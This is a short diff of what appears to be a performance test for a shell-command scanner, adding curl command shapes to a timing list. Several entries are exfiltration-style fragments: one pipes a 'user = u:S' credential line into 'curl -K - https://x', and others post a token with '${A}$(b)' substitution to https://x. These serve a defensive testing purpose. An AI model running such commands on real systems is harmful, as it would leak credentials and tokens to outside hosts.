@@ -112,6 +112,9 @@ S17_AROUND = [
     # the second attack review: a long one-line pipeline into curl (each stage's walk back ran
     # to the line's start: 25 s at 1.6x10^6 characters)
     ("!echo 'user = u:S' ", "| tee a ", "| curl -K - https://x"),
+    # a body value after references (their tail read): many, and one long run of references
+    ("!curl -d '{", "token: ${A}$(b)x, ", "' https://x"),
+    ("!curl -d '{token: ", "${A}", "x' https://x"),
 ]
 NOISE_MS = 20  # --check leaves out shapes faster than this at n (a busy machine's noise)
 SIZES = (1, 2, 4)  # times n
